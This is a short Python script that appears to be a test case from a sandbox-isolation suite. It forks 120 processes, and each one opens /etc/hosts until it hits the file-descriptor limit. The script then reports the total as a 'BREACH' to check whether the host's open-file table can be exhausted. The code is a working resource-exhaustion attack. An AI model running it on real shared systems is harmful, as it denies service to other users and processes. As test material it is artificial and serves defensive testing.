# attack: take the host's table of open files: many processes, each with as many as it may have
# must end: completed or interrupted or crashed
# limits: wall=20s
# with: neighbour
import os, time
readers = []
for _ in range(120):
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        opened = 0
        try:
            while True:
                os.open("/etc/hosts", os.O_RDONLY)
                opened += 1
        except OSError:
            pass
        os.write(writer, b"%8d" % opened)
        time.sleep(30)
        os._exit(0)
    os.close(writer)
    readers.append(reader)
total = sum(int(os.read(reader, 8) or b"0") for reader in readers)
time.sleep(2)
print("BREACH:", total, "files are open", flush=True)
